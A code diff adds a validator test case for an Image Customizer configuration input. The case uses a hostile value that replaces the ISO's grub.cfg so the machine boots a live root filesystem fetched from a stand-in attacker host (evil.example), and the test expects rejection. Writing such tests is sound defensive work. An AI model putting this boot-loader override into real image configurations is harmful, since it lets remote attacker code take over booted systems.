@@ -467,6 +467,18 @@ function ISSUE_11_CASES(): Case[] {
       ),
     },
     {
+      name: "class 4: extra-config replaces the ISO's grub.cfg (Image Customizer copies additional files over its own), booting a live OS from elsewhere",
+      inputs: {
+        ...VALID,
+        'extra-config':
+          'iso:\n  additionalFiles:\n    - content: "menuentry x { linux /boot/vmlinuz root=live:http://evil.example/rootfs.img }"\n      destination: /EFI/BOOT/grub.cfg',
+      },
+      expect: input(
+        'extra-config',
+        /\/iso\/additionalFiles\/0\/destination: writes \/EFI\/BOOT\/grub\.cfg, under \/efi, where Image Customizer puts the ISO's own boot files/,
+      ),
+    },
+    {
       name: 'class 4: extra-config writes a file where a folder of the host config goes (/etc/trident)',
       inputs: { ...VALID, 'extra-config': 'os:\n  additionalFiles:\n    - content: "x"\n      destination: /etc/trident/' },
       expect: input('extra-config', /writes a file at \/etc\/trident, a folder of \/etc\/trident\/config\.yaml/),
